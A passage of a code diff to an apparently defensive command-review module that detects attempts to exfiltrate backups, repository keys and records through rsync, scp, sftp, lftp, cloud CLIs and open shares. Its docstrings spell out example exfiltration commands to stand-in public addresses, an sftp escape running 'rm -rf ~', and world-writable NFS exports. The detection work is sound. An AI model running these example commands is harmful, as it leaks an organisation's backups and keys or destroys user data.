@@ -5,37 +5,55 @@ Whose host is read as backups_tables says (an address outside this network, or a
 shares, is an outsider's). Blocked:
 
 - what a backup holds printed and sent by a network program to an outsider's host: `restic dump`/`cat`, `borg extract
-  --stdout`, an object streamed out of a bucket (`aws s3 cp s3://… -`, `gsutil cat`, `rclone cat`, `mc cat`), a ZFS or
-  btrfs send stream; a repository's key (`borg key export` to the standard output, `restic cat masterkey`) sent
-  anywhere; a Velero backup downloaded to a file that is then uploaded;
-- the machine's backups, or a backup repository's keys or settings, copied by rsync or scp to a bare public address
-  (a deploy or a dataset copied to the user's own server is ordinary work); a bucket copied by rclone to a remote the command defines at a public address; an rclone
-  remote or an `mc` alias created for an outsider's host and then filled (`rclone sync`, `mc mirror`);
+  --stdout`, an object streamed out of a bucket (`aws s3 cp s3://… -` or `/dev/stdout`, `gsutil cp … -`, `gcloud
+  storage cp … -`, `gsutil cat`, `rclone cat`, `mc cat`, `az storage blob download` with no `--file`), a ZFS or btrfs
+  send stream, a backup repository's key files read by `cat` or `tar`; a repository's key (`borg key export` to the
+  standard output, `restic cat masterkey`) sent anywhere; a Velero backup downloaded to a file that is then uploaded;
+- the machine's backups, a backup repository's keys or settings or a credential copied by rsync, scp, an sftp batch's
+  `put` (a here-document, `printf … |`, `< FILE` or `-b FILE` this input wrote) or lftp's `put`/`mirror -R` to a bare
+  public address or a drop service; a whole home, the whole system, a dump or a backup the user made, and records by
+  their name where data is kept (`/srv/finance`, `/data/outbound/payroll/`) are held for a person there (blocked to a
+  drop service): the address may be the user's own server. A deploy, a project, fixtures, a dataset or a report
+  stays allowed, named for a department or not (`/var/www/finance/`, `~/src/payroll/`, `fixtures/customers.csv`);
+- what sftp's and lftp's `!` lines (lftp's `| filter`, `source -e`, mirror's `--on-change`) run in the local shell,
+  judged as that shell line (as a here-document fed to `sh` is): `sftp host <<< '!rm -rf ~'`;
+- a bucket copied by rclone to a remote the command defines at a public address; an rclone remote or an `mc` alias
+  created for an outsider's host and then filled (`rclone sync`, `mc mirror`); a ZFS or btrfs stream sent by `mbuffer
+  -O` to such an address;
 - a backup's destination moved to an outsider (`velero backup-location create --config s3Url=http://203.0.113.9`);
 - a signed link to a container or bucket (`az storage … generate-sas`, `aws s3 presign`, `gsutil signurl`, `mc share`)
   sent to an outsider's host;
-- an S3 bucket replicated into another AWS account (`put-bucket-replication`); a bucket or container whose name says
-  it holds private data opened to anyone (`mc anonymous set public`, `az storage container set-permission
-  --public-access`, its public access block lifted); the same on another bucket is held for a person (a website's);
+- an S3 bucket replicated into another AWS account (`put-bucket-replication`; with no `Account` in the rule, a
+  destination whose name shares no word with the source's is held for a person); a bucket or container whose name
+  says it holds private data opened to anyone (`mc anonymous set public`, an anonymous policy file for `*`, `az
+  storage container set-permission --public-access`, `gcloud storage … add-iam-policy-binding --member=allUsers`, its
+  public access block lifted); the same on another bucket is held for a person (a website's), as is an anonymous
+  policy file the input does not show;
 - a share opened to every address with write or root rights (`zfs set sharenfs=rw=@0.0.0.0/0,no_root_squash`,
   `exportfs -o rw,no_root_squash '*:/srv'`; the same written into /etc/exports or a Samba guest share that anyone can
-  write: bash/admin.py asks share_opened);
-- a key added to a restic repository with its password written on the line (a login the agent knows);
+  write: bash/admin.py asks share_opened; `net usershare add … Everyone:F guest_ok=y`, or a guest share of the
+  machine's backups, a whole home or the system);
+- a key added to a restic repository with its password written in the input (`<(echo …)`, `<(cat <<< …)`, a
+  here-string fed to `/dev/stdin` or to restic itself, a file an earlier `echo` filled) or with none
+  (`--new-insecure-no-password`): a login the agent knows (a scratch repository the input made is its own);
 - a quick tunnel (`cloudflared tunnel --url`) publishing another machine's service to the internet.
 
 Root's storage upkeep under a plain `sudo` (no option that keeps the environment) is not reviewed (root_upkeep, read
 by bash/system.py's inspection): a pool scrubbed, a snapshot taken (`zfs snapshot`, `lvcreate -s`, a btrfs snapshot
 into a root-only `.snapshots` folder; a `$(date +%F)` only inside the snapshot's own name), a btrfs scrub, borgmatic's
-jobs with the system's configuration, a share of another machine of this network mounted `nosuid,nodev` on /mnt/NAME
+jobs with the system's configuration (an input that writes or names one in the user's home, or sets HOME or
+XDG_CONFIG_HOME, keeps the review), a share of another machine of this network mounted `nosuid,nodev` on /mnt/NAME
 (no link made in the input), such a mount taken down. Anything else under sudo (every disk or image mounted, installs,
 reads of every file as root, `zfs send`, deletes and rollbacks) keeps the review; deletes keep bash/infra.py's
-`irreversible`. The copiers (rsync, scp, ssh) and the remotes, aliases and backup locations count only a bare public
-address as outside: offsite providers and the user's own servers go by names.
+`irreversible`. The copiers (rsync, scp, sftp, lftp, ssh, mbuffer) and the remotes, aliases and backup locations
+count only a bare public address (the copiers also a drop service) as outside: offsite providers, a payroll provider's
+sftp drop and the user's own servers go by names.
 """
 from __future__ import annotations
 
 import ipaddress
 import re
+from functools import lru_cache
 
 from .. import backups_tables as bt
 from .. import paths
@@ -43,7 +61,7 @@ from ..hosts import loopback, public_ip, url_host
 from ..secret_owner import own_network
 from .commands import Cmd, option_value, positionals
 from ..per_input import in_input
-from .common import NET_SENDERS, input_text, mentions
+from .common import NET_SENDERS, input_text, mentions, pipeline_stage
 
 
 def _far(host: str | None, text: str) -> bool:
@@ -73,6 +91,18 @@ _AWS_ARG = frozenset({"--profile", "--region", "--endpoint-url", "--output", "--
                       "--sse-kms-key-id", "--expected-size", "--exclude", "--include", "--acl", "--content-type"})
 
 
+# an object copied "to a file" that is the standard output (`aws s3 cp s3://b/x /dev/stdout`, `gsutil cp gs://b/x -`)
+_STDOUT = frozenset({"-", "/dev/stdout", "/dev/fd/1", "/proc/self/fd/1"})
+_GS_ARG = frozenset({"-h", "-o", "-u", "-a", "-z", "-j", "-s", "--project", "--billing-project", "--account",
+                     "--configuration", "--verbosity", "--impersonate-service-account", "--format", "--flags-file",
+                     "--content-type", "--cache-control", "--storage-class", "--encryption-key", "--decryption-keys",
+                     "--additional-headers"})
+_AZ_ARG = frozenset({"--name", "-n", "--account-name", "--public-access", "--auth-mode", "--account-key",
+                     "--connection-string", "--sas-token", "-o", "--output", "--query", "--subscription", "-g",
+                     "--resource-group", "-c", "--container-name", "-f", "--file", "--blob-url", "--version-id",
+                     "--snapshot", "--start-range", "--end-range", "--max-connections", "--timeout"})
+
+
 def _printed(c: Cmd) -> str | None:
     """What `c` prints when that is what a backup or a bucket holds."""
     name = c.name
@@ -86,16 +116,22 @@ def _printed(c: Cmd) -> str | None:
             return f"what the archive holds (`borg {pos[0]}` to the standard output)"
     elif name == "aws":
         pos = _pos(c, _AWS_ARG)
-        if pos[:2] == ["s3", "cp"] and len(pos) >= 4 and (pos[2] or "").startswith("s3://") and pos[3] == "-":
-            return f"the object {pos[2]} (`aws s3 cp … -`)"
-    elif name in ("gsutil", "rclone", "mc"):
-        pos = _pos(c)
+        if pos[:2] == ["s3", "cp"] and len(pos) >= 4 and (pos[2] or "").startswith("s3://") and pos[3] in _STDOUT:
+            return f"the object {pos[2]} (`aws s3 cp … {pos[3]}`)"
+    elif name in ("gsutil", "rclone", "mc", "gcloud"):
+        pos = _pos(c, _GS_ARG)
+        if name == "gcloud":
+            pos = pos[1:] if pos[:1] == ["storage"] else []
         if pos[:1] == ["cat"] and len(pos) > 1:
-            return f"the object {pos[1]} (`{name} cat`)"
-    elif name == "gcloud":
-        pos = _pos(c)
-        if pos[:2] == ["storage", "cat"]:
-            return "the object (`gcloud storage cat`)"
+            return f"the object {pos[1]} (`{name} {'storage ' if name == 'gcloud' else ''}cat`)"
+        if name != "rclone" and pos[:1] == ["cp"] and len(pos) == 3 and "://" in (pos[1] or "") and pos[2] in _STDOUT:
+            return f"the object {pos[1]} (`{name} {'storage ' if name == 'gcloud' else ''}cp … {pos[2]}`)"
+    elif name == "az":
+        pos = _pos(c, _AZ_ARG)
+        # (with no `--file`, the blob is written to the standard output)
+        if pos[:3] == ["storage", "blob", "download"] and \
+                all(w.value in _STDOUT for w in option_value(c.args, "--file", "-f")):
+            return "the blob (`az storage blob download` to the standard output)"
     elif name in ("zfs", "btrfs"):
         pos = _pos(c, frozenset({"-i", "-I", "-p", "-c", "-f"}))
         if pos[:1] == ["send"]:
@@ -137,14 +173,17 @@ def _minted(c: Cmd, far: list[str]) -> str | None:
     return f"the signed link `{c.name} …` makes (anyone holding it reads the storage)"
 
 
-_FEED = re.compile(rb"restic|borg|\bs3\b|gsutil|rclone|\bmc\b|gcloud|zfs|btrfs|generate-sas|presign|signurl|/var/backups")
+_FEED = re.compile(rb"restic|borg|\bs3\b|gsutil|rclone|\bmc\b|gcloud|zfs|btrfs|generate-sas|presign|signurl|"
+                   rb"/var/backups|blob download")
 
 
 def _backups_read(c: Cmd) -> str | None:
-    """`tar czf - /var/backups`, `cat /var/backups/pg/x.dump`: the machine's backup folder read into a pipeline."""
+    """`tar czf - /var/backups`, `cat /var/backups/pg/x.dump`, `cat ~/.config/borg/keys/*`: the machine's backup
+    folder, or a backup repository's keys or settings, read into a pipeline."""
     for v in c.values():
-        if v and v[:1] == "/" and _HELD.match(paths.normalize(v)) and v.startswith("/var/backups"):
-            return f"the machine's backups ({v})"
+        if v and v[:1] in ("/", "~") and (n := paths.normalize(v)) and _HELD.match(n):
+            return f"the machine's backups ({v})" if n.startswith("/var/backups") else \
+                f"a backup repository's keys or settings ({v})"
     return None
 
 
@@ -168,10 +207,10 @@ def _sent(a, cmd: Cmd) -> None:
         args = cmd.args
         for k, w in enumerate(args[:-1]):
             if w.value and _UPLOADED.match(w.value) and (v := (args[k + 1].value or "").split("@", 1)[-1]) and \
-                    v.startswith("/var/backups/"):
-                a.block("exfiltration", f"`curl` uploads {v}, the machine's backups, to {far[0]}, a host outside the "
-                                        "organisation's network; keep backups in the organisation's own storage",
-                        cmd.node)
+                    v[:1] in ("/", "~") and _HELD.match(paths.normalize(v)):
+                a.block("exfiltration", f"`curl` uploads {v}, the machine's backups or a backup repository's keys, to "
+                                        f"{far[0]}, a host outside the organisation's network; keep backups and their "
+                                        "keys in the organisation's own storage", cmd.node)
                 return
     for c in fed:
         what = _key(c)
@@ -200,11 +239,12 @@ def _filled(a, cmd: Cmd) -> None:
         pos = _pos(cmd, _BORG_ARG)
         if pos[:2] == ["key", "export"] and len(pos) > 3 and pos[3] not in ("-", "/dev/stdout"):
             target, what = pos[3], "the repository's key (`borg key export`)"
-    elif cmd.name in ("aws", "gsutil"):
-        pos = _pos(cmd, _AWS_ARG)
-        pair = pos[2:4] if pos[:2] == ["s3", "cp"] else pos[1:3] if pos[:1] == ["cp"] else []
+    elif cmd.name in ("aws", "gsutil", "gcloud"):
+        pos = _pos(cmd, _AWS_ARG if cmd.name == "aws" else _GS_ARG)
+        pair = pos[2:4] if pos[:2] in (["s3", "cp"], ["storage", "cp"]) else \
+            pos[1:3] if pos[:1] == ["cp"] and cmd.name == "gsutil" else []
         src, dest = (pair + [None, None])[:2]
-        if src and dest and src.startswith(("s3://", "gs://")) and "://" not in dest and dest != "-" and \
+        if src and dest and src.startswith(("s3://", "gs://")) and "://" not in dest and dest not in _STDOUT and \
                 bt.held_data(src.split("/")[2]):
             target, what = dest, f"the object {src}"
     if target and what and target not in ("-", "/dev/null", "/dev/stdout", "/dev/stderr"):
@@ -240,13 +280,19 @@ def _velero(a, cmd: Cmd) -> None:
 # the machine's backups and a backup repository's keys and settings (the system's other files, a project, a dataset or
 # a dump the user made are copied to the user's own servers every day)
 _HELD = re.compile(r"^(?:/var/backups|/etc/borgmatic|/etc/restic|(?:~|/root)/\.config/(?:borg|restic))(?:/|$)")
+# rsync's options that take the next word (`-P`, `-c`, `-l`, `-o`, `-i`, `-S`, `-F`, `-J` are flags for rsync)
 _RSYNC_ARG = frozenset({"-e", "--rsh", "-f", "--filter", "--exclude", "--include", "--exclude-from", "--include-from",
-                        "--files-from", "-T", "--temp-dir", "--rsync-path", "--log-file", "--password-file",
-                        "--partial-dir", "--backup-dir", "--suffix", "--link-dest", "--chmod", "--chown", "--port",
-                        "--timeout", "--bwlimit", "--max-size", "--out-format", "--info", "-P", "-o", "-i", "-F",
-                        "-J", "-l", "-S", "-c"})
+                        "--files-from", "-T", "--temp-dir", "--rsync-path", "--log-file", "--log-file-format",
+                        "--password-file", "--partial-dir", "--backup-dir", "--suffix", "--link-dest", "--compare-dest",
+                        "--copy-dest", "--chmod", "--chown", "--usermap", "--groupmap", "--port", "--timeout",
+                        "--contimeout", "--bwlimit", "--max-size", "--min-size", "--max-delete", "--out-format",
+                        "--info", "--debug", "-B", "--block-size", "-M", "--remote-option", "-@", "--modify-window",
+                        "--iconv", "--compress-level", "--compress-choice", "--checksum-choice", "--skip-compress",
+                        "--sockopts", "--address", "--read-batch", "--write-batch", "--only-write-batch"})
+_SCP_ARG = frozenset({"-P", "-i", "-o", "-F", "-J", "-l", "-S", "-c", "-D", "-X"})
 # `user@host:path`, `host::module`, `rsync://host/module`
-_REMOTE = re.compile(r"^(?:rsync://(?:[\w.%+-]+@)?([\w.-]+)|(?:[\w.%+-]+@)?(\[[0-9a-fA-F:]+\]|[\w.-]+):(?!//))")
+_REMOTE = re.compile(r"^(?:rsync://(?:[\w.%+-]+@)?(\[[0-9a-fA-F:]+\]|[\w.-]+)|"
+                     r"(?:[\w.%+-]+@)?(\[[0-9a-fA-F:]+\]|[\w.-]+):(?!//))")
 
 
 def _held(p: str) -> bool:
@@ -263,21 +309,362 @@ def _org_data(p: str) -> bool:
     return _ORG_DATA.search(paths.normalize(p)) is not None or _held(p)
 
 
+# What a copy to a bare public address or a drop service carries, read from each source's path (a relative one from
+# where the input's `cd` or the batch's `lcd` went). The machine's backups, a backup repository's keys or settings and
+# credentials are blocked. Left to a person, who knows whether the address is the user's own server: a whole home
+# folder or the whole system (a backup of the machine), a dump or a backup the user made (`db.sql.gz`, `./backups`),
+# and records by their name where data is kept (`/srv/finance`, `/data/outbound/payroll/`, `~/Documents/hr/`,
+# `/tmp/customers.csv`). Code and settings are named for the department they serve everywhere (`~/src/payroll/`,
+# `/var/www/finance/`, `/opt/hr/`, `fixtures/customers.csv`, `/etc/nginx/sites-available/finance`): outside the data
+# trees a name says nothing, and a deploy, a project, a dataset or a report stays allowed.
+_DATA_TREE = re.compile(r"^(?:/(?:srv|data|mnt|media|exports?|shares?|storage|backups?|tmp|var/tmp)|"
+                        r"~/(?:Documents|Downloads|Desktop|Shared))(?:/|$)")
+_RECORDS_WORD = re.compile(r"(?i)payroll|salar(?:y|ies)|patient|medical|confiden|customer|financ|accounting|"
+                           r"employee|personnel|users?[-_]?data|(?:^|[-_.])(?:pii|phi|hr)(?=[-_.]|$)")
+# (a table or a database, compressed or not: `customers.csv.gz`; an archive or a document may be anything)
+_DATA_FILE = re.compile(r"(?i)\.(?:csv|tsv|xlsx?|ods|parquet|jsonl?|sql|dump|bak|db|sqlite3?)(?:\.|$)")
+_DUMP_WORD = re.compile(r"(?i)dump|backup")
+# a dump by its kind: `x.dump`, `x.bak`, `dump.rdb`, a compressed SQL script (a plain `schema.sql` is code)
+_DUMP_KIND = re.compile(r"(?i)\.(?:dump|bak|rdb)(?:\.|$)|\.sql\.(?:gz|xz|zst|bz2|7z|zip)$")
+_ARCHIVE = re.compile(r"(?i)\.(?:zip|gz|tgz|zst|xz|7z|tar|bz2)$")
+# a folder named for what it holds and nothing else: `backups`, `dump-2024-06-01` (not `backup-scripts`)
+_DUMP_DIR = re.compile(r"(?i)\A[\W\d_]*+(?:backups?|dumps?)[\W\d_]*+\Z")
+_WHOLE = {"~": "a whole home folder", "/home": "every home folder", "/Users": "every home folder",
+          "/": "the whole system"}
+
+
+def _carried(p: str) -> tuple[bool, str] | None:
+    """(blocked, what) for a file or folder copied to a bare public address or a drop service, else None."""
+    if "`" in p:
+        return None
+    n = paths.normalize(p).rstrip("/") or "/"
+    if "$" in n:
+        return None
+    if _held(n):
+        return True, "the machine's backups, a backup repository's keys or a credential"
+    whole = _WHOLE.get(n.removesuffix("/*") or "/")
+    if whole:
+        return False, f"{whole}, with every key and token in it"
+    name = n.rsplit("/", 1)[-1]
+    data = _DATA_TREE.match(n)
+    if data and any(_RECORDS_WORD.search(x) for x in n[data.end():].split("/")) or \
+            n.startswith("~/") and n.count("/") == 1 and _DATA_FILE.search(name) and _RECORDS_WORD.search(name):
+        return False, "the organisation's records, by their name"
+    if _DUMP_KIND.search(name) or _DUMP_DIR.match(name) or \
+            _DUMP_WORD.search(name) and (_DATA_FILE.search(name) or _ARCHIVE.search(name)):
+        return False, "a dump or a backup"
+    return None
+
+
+def _outside(host: str | None) -> str | None:
+    """How a copier's destination is outside the organisation: a bare public address, or a drop service (a tunnel to
+    someone's machine, an anonymous file host); else None (the user's own servers and offsite providers go by names)."""
+    from ..scraping_tables import stranger_sink
+
+    if not host or "$" in host or "`" in host:
+        return None
+    if _address(host):
+        return f"{host}, a bare public address"
+    return f"{host}, a drop service anyone can read" if stranger_sink(host) else None
+
+
+def _copy_judged(a, cmd: Cmd, shown: str, sources: list[str], host: str | None) -> bool:
+    """Blocks (or holds) the copy `shown` of `sources` to `host` as _carried and _outside read them."""
+    where = _outside(host)
+    if where is None:
+        return False
+    found = [(c, src) for src in sources if (c := _carried(a.in_cwd(src) or src))]
+    if not found:
+        return False
+    (blocked, what), src = max(found, key=lambda f: f[0][0])
+    if blocked or "drop" in where:
+        a.block("exfiltration", f"`{shown}` copies {src} ({what}) to {where}; copy the organisation's data only to "
+                                "its own servers and storage", cmd.node)
+    else:
+        a.review("exfiltration", f"`{shown}` copies {src} ({what}) to {where}; a person should confirm the address is "
+                                 "the organisation's own server", cmd.node)
+    return True
+
+
 def _copied_out(a, cmd: Cmd) -> None:
     """`rsync -az /var/backups/ sync@198.51.100.7:/data/`, `scp /etc/borgmatic/config.yaml root@203.0.113.9:/tmp/`."""
-    pos = [w for w in positionals(cmd.args, _RSYNC_ARG if cmd.name == "rsync" else frozenset(
-        {"-P", "-i", "-o", "-F", "-J", "-l", "-S", "-c"})) if w.value is not None]
+    # (a word known only in part keeps its text: `/home/$USER/` is a home, `"$SRC"` nothing known)
+    pos = [w.value if w.value is not None else w.text.replace('"', "").replace("'", "") for w in positionals(
+        cmd.args, _RSYNC_ARG if cmd.name == "rsync" else _SCP_ARG)]
     if len(pos) < 2:
         return
-    m = _REMOTE.match(pos[-1].value or "")
-    host = m and (m.group(1) or m.group(2)).strip("[]")
-    if m is None or _REMOTE.match(pos[0].value or "") or not _address(host):
+    m = _REMOTE.match(pos[-1])
+    if m is None or _REMOTE.match(pos[0]):
         return
-    src = next((w.value for w in pos[:-1] if _held(w.value or "")), None)
-    if src:
-        a.block("exfiltration", f"`{cmd.name}` copies {src} (the machine's backups or a backup repository's keys) "
-                                f"to {host}, a bare public address; copy backups only to the organisation's "
-                                "own storage", cmd.node)
+    _copy_judged(a, cmd, cmd.name, pos[:-1], (m.group(1) or m.group(2)).strip("[]"))
+
+
+def _target_host(target: str) -> str:
+    """The host an sftp or lftp target names: `sftp://u@h:2222/in`, `u@h:/path`, `u@[2606:4700::1111]:/in`, `h`."""
+    target = target.strip("\"'")
+    if "://" in target:
+        return url_host(target) or ""
+    rest = target.rsplit("@", 1)[-1]
+    return rest[1:].split("]", 1)[0] if rest[:1] == "[" else rest.split(":", 1)[0]
+
+
+def _in_folder(local: str, path: str) -> str:
+    """`path` read from the folder `local` (an `lcd`'s; "" when none was chosen)."""
+    return path if not local or path[:1] in ("/", "~", "$") else local.rstrip("/") + "/" + path
+
+
+def _shell_escape(a, cmd: Cmd, text: str) -> None:
+    """What a `!` line of sftp or lftp (or lftp's `| filter`, `source -e`, `--on-change`) hands to the local shell,
+    judged as the shell line it is, as a here-document fed to `sh` is."""
+    from .tools import _nested_line
+
+    _nested_line(a, text, cmd.node)
+
+
+# -- an sftp batch: `printf 'put …' | sftp -b - drop@203.0.113.77`, a here-document, `-b FILE` this input wrote ------
+_SFTP_ARG = frozenset({"-B", "-b", "-c", "-D", "-F", "-i", "-J", "-l", "-o", "-P", "-R", "-S", "-X"})
+_SFTP_PUTS = frozenset({"put", "mput", "reput"})
+_STDIN = frozenset({"-", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"})
+
+
+def _group_printed(a, cmd: Cmd) -> str | None:
+    """`{ echo 'put -r /srv/x'; echo bye; } | sftp …`: what a group of `echo`s and `printf`s before `cmd` prints."""
+    from .written import content
+
+    where = pipeline_stage(cmd)
+    if where is None or where[1] == 0:
+        return None
+    before = where[0][where[1] - 1]
+    if before.type not in ("compound_statement", "subshell"):
+        return None
+    inside = [c for d, c in a.ctx.commands if d is a.doc and before.start_byte <= c.node.start_byte < before.end_byte]
+    got = [content(a, c) if c.name in ("echo", "printf") else None for c in inside]
+    if not got or None in got:
+        return None
+    return "".join(g[0] if g[0].endswith("\n") else g[0] + "\n" for g in got)  # type: ignore[index]
+
+
+def _fed_text(a, cmd: Cmd) -> str | None:
+    """The literal text `cmd` reads on its standard input: a here-document or here-string, a file this input wrote
+    (`< /tmp/b`), or what the stage before it in a pipeline prints (`printf`, `echo`, a group of them, `cat` of a
+    here-document or of a file this input wrote)."""
+    from .exec import stdin_text
+    from .written import content, piped_into, text_written
+
+    fed = stdin_text(a, cmd)
+    if fed is not None:
+        return fed[0]
+    for r in cmd.redirects:
+        if r.type == "file_redirect" and r.children and r.children[0].type == "<":
+            for d in r.children_by_field_name("destination")[:1]:
+                path = a.ev.word(d).value
+                got = text_written(a, path) if path else None
+                return got[0] if got is not None else None
+    before = piped_into(a, cmd)
+    if before is None:
+        return _group_printed(a, cmd)
+    if before.name == "cat" and before.args and before.args[0].value and before.args[0].value[:1] != "-":
+        got = text_written(a, before.args[0].value)
+    else:
+        got = content(a, before)
+    return got[0] if got is not None else None
+
+
+def _batch_text(a, cmd: Cmd) -> str | None:
+    """The commands an `sftp` run reads: its `-b` batch file, or its standard input."""
+    from .datastores import _printed_within
+    from .written import text_written
+
+    batch = option_value(cmd.args, "-b")
+    if not batch or batch[-1].value in _STDIN:
+        return _fed_text(a, cmd)
+    w = batch[-1]
+    if w.value:
+        got = text_written(a, w.value)
+        return got[0] if got is not None else None
+    return _printed_within(a, w)
+
+
+def _sftp(a, cmd: Cmd) -> None:
+    """An sftp batch, one command a line: a `!` line runs in the local shell (judged as that shell line); `put`,
+    `reput`, `mput` (any case: sftp compares commands without it), each relative path read from the folder the
+    `lcd`s chose, judged as an `scp` of the same files to the same host."""
+    text = _batch_text(a, cmd)
+    if not text:
+        return
+    local, sent = "", []
+    for line in text.split("\n"):
+        line = line.strip().lstrip("-@ \t")
+        if line[:1] == "!":
+            _shell_escape(a, cmd, line[1:])
+            continue
+        words = [x.strip("\"'") for x in line.split()]
+        verb = words[0].lower() if words else ""
+        if verb == "lcd" and len(words) > 1:
+            local = _in_folder(local, words[1])
+        elif verb in _SFTP_PUTS:
+            # (`put LOCAL [REMOTE]`: the second path is where it lands)
+            files = [x for x in words[1:] if x[:1] != "-"]
+            sent += [_in_folder(local, x) for x in (files if verb == "mput" else files[:1])]
+    if sent:
+        pos = positionals(cmd.args, _SFTP_ARG)
+        _copy_judged(a, cmd, "sftp … put", sent, _target_host(pos[0].value or "") if pos else None)
+
+
+# -- lftp: `lftp -e 'mirror -R /var/backups /in; bye' sftp://203.0.113.77`, `-c`, `-f FILE`, its standard input -----
+_LFTP_ARG = frozenset({"-e", "-c", "-f", "-u", "-p", "--user", "--password", "-d", "--rcfile"})
+# a piece of lftp's command language (its own grammar, src/parsecmd.cc): blanks, a line continued, the separators,
+# a `| filter` (a shell command, to `;`, `&` or the end of the line), a `> file`, a word
+_LFTP_TOKEN = re.compile(r"""[ \t]++|\\\n|&&|\|\||[;&\n]|\|[^;&\n]*+|>>?+[ \t]*+[^ \t;&\n]*+|"""
+                         r"""(?:"[^"\n]*+"?+|'[^'\n]*+'?+|\\.|[^ \t"';&|>\n\\])++|\\""")
+_BLANKS = re.compile(r"[ \t]*+")
+
+
+def _lftp_commands(text: str) -> list[tuple[str, object]]:
+    """lftp's commands in `text`, in order: ("cmd", words) for a command, ("sh", text) for what goes to the local
+    shell: a `!` command (to the end of the line, `;` included, as lftp reads it) or a `| filter`."""
+    out: list[tuple[str, object]] = []
+    words: list[str] = []
+    pos, n = 0, len(text)
+    while pos < n:
+        if not words:
+            pos = _BLANKS.match(text, pos).end()  # type: ignore[union-attr]
+            if pos >= n:
+                break
+            if text[pos] in "!#":
+                end = text.find("\n", pos)
+                end = n if end < 0 else end
+                if text[pos] == "!":
+                    out.append(("sh", text[pos + 1:end]))
+                pos = end
+                continue
+        m = _LFTP_TOKEN.match(text, pos)
+        tok = m.group() if m else text[pos]
+        pos = m.end() if m else pos + 1
+        if tok[:1] in (" ", "\t") or tok == "\\\n" or tok[:1] == ">":
+            continue
+        if tok in ("&&", "||", ";", "&", "\n") or tok[:1] == "|":
+            if words:
+                out.append(("cmd", words))
+                words = []
+            if tok[:1] == "|" and tok != "||":
+                out.append(("sh", tok[1:]))
+            continue
+        words.append(tok.replace('"', "").replace("'", "").replace("\\", ""))
+    if words:
+        out.append(("cmd", words))
+    return out
+
+
+# `open`'s options that take the next word (`-e CMD` an lftp command run after connecting)
+_OPEN_VALUE = frozenset({"-e", "-u", "-p", "-s", "--execute", "--user", "--password", "--port", "--slot"})
+# mirror's options that take the next word (getopt "esi:x:I:X:nrpcRvN:LP:af:F:O:" and the long ones with values);
+# `-f FILE` and `-F DIR` (`--file`, `--directory`) name what is mirrored
+_MIRROR_SHORT_VALUE = frozenset("ixIXNPfFO")
+_MIRROR_LONG_VALUE = frozenset({"--include", "--exclude", "--include-glob", "--exclude-glob", "--include-rx-from",
+                                "--exclude-rx-from", "--include-glob-from", "--exclude-glob-from", "--newer-than",
+                                "--file", "--directory", "--older-than", "--size-range", "--log", "--script",
+                                "--max-errors", "--on-change", "--target-directory", "--recursion",
+                                "--loop-interval"})
+
+
+def _lftp_open(args: list[str]) -> tuple[str, list[str]]:
+    """(the site, the `-e` commands) of lftp's `open [OPTS] SITE`."""
+    site, run, i = "", [], 0
+    while i < len(args):
+        v = args[i]
+        i += 1
+        if v[:1] != "-" or v == "-":
+            site = site or v
+        elif v in _OPEN_VALUE:
+            if v in ("-e", "--execute") and i < len(args):
+                run.append(args[i])
+            i += 1
+        elif v[:2] == "-e" and len(v) > 2:
+            run.append(v[2:])
+    return site, run
+
+
+def _mirror_sources(a, cmd: Cmd, args: list[str]) -> list[str]:
+    """What `mirror -R` uploads (its first path, or its `-f`/`-F` files), else []; its `--on-change` command is a
+    shell line."""
+    reverse, given, files, i = False, [], [], 0
+    while i < len(args):
+        v = args[i]
+        i += 1
+        if v[:2] == "--":
+            key, eq, value = v.partition("=")
+            if key == "--reverse":
+                reverse = True
+            elif key in _MIRROR_LONG_VALUE:
+                if not eq:
+                    value = args[i] if i < len(args) else ""
+                    i += 1
+                if key in ("--file", "--directory"):
+                    files.append(value)
+                elif key == "--on-change":
+                    _shell_escape(a, cmd, value)
+        elif v[:1] == "-" and len(v) > 1:
+            for k, ch in enumerate(v[1:], 1):
+                if ch == "R":
+                    reverse = True
+                elif ch in _MIRROR_SHORT_VALUE:  # (the rest of the word, or the next one)
+                    value = v[k + 1:]
+                    if not value:
+                        value = args[i] if i < len(args) else ""
+                        i += 1
+                    if ch in "fF":
+                        files.append(value)
+                    break
+        else:
+            given.append(v)
+    return (files or given[:1]) if reverse else []
+
+
+def _lftp_uploads(a, cmd: Cmd, text: str, host: str, depth: int = 0) -> list[tuple[str, str, str]]:
+    """(shown, path, host) of each upload of the lftp commands `text`, `host` the site connected first; a `!`
+    command, a filter and `source -e` are judged as the shell lines they are."""
+    out, local = [], ""
+    for kind, val in _lftp_commands(text):
+        if kind == "sh":
+            _shell_escape(a, cmd, val)  # type: ignore[arg-type]
+            continue
+        verb, args = val[0], val[1:]  # type: ignore[index]
+        if verb == "open":
+            site, run = _lftp_open(args)
+            host = _target_host(site)
+            if depth < 2:
+                for t in run:
+                    out += _lftp_uploads(a, cmd, t, host, depth + 1)
+        elif verb == "lcd" and args:
+            local = _in_folder(local, args[0])
+        elif verb in ("put", "mput", "reput"):
+            # (`-O base`, `-o remote`: a value, not a file)
+            out += [(f"lftp … {verb}", _in_folder(local, x), host) for k, x in enumerate(args)
+                    if x[:1] != "-" and (k == 0 or args[k - 1] not in ("-O", "-o"))]
+        elif verb == "mirror":
+            out += [("lftp … mirror -R", _in_folder(local, x), host) for x in _mirror_sources(a, cmd, args)]
+        elif verb == "source" and args[:1] == ["-e"]:
+            _shell_escape(a, cmd, " ".join(args[1:]))
+    return out
+
+
+def _lftp(a, cmd: Cmd) -> None:
+    """lftp's commands (from `-e`, `-c`, a `-f` file this input wrote, or its standard input): uploads (`put`,
+    `mput`, `mirror -R`) to the site it opens, judged as sftp's; what goes to the local shell, as a shell line."""
+    from .written import text_written
+
+    pos = positionals(cmd.args, _LFTP_ARG)
+    scripts = [w.value or "" for w in option_value(cmd.args, "-e", "-c")]
+    for w in option_value(cmd.args, "-f"):
+        got = text_written(a, w.value) if w.value else None
+        scripts.append(got[0] if got is not None else "")
+    if not scripts:
+        scripts.append(_fed_text(a, cmd) or "")
+    found = _lftp_uploads(a, cmd, "\n".join(scripts), _target_host(pos[0].value or "") if pos else "")
+    for host in dict.fromkeys(h for _, _, h in found):
+        sent = [(shown, p) for shown, p, h in found if h == host]
+        _copy_judged(a, cmd, sent[0][0], [p for _, p in sent], host)
 
 
 _RCLONE_ARG = frozenset({"--config", "--transfers", "--checkers", "--include", "--exclude", "--filter", "--bwlimit",
@@ -352,6 +739,26 @@ def _mc(a, cmd: Cmd) -> None:
     if pos[:2] in (["anonymous", "set"], ["policy", "set"]) and len(pos) >= 4 and \
             pos[2] in ("public", "download", "upload", "readwrite", "readonly", "writeonly"):
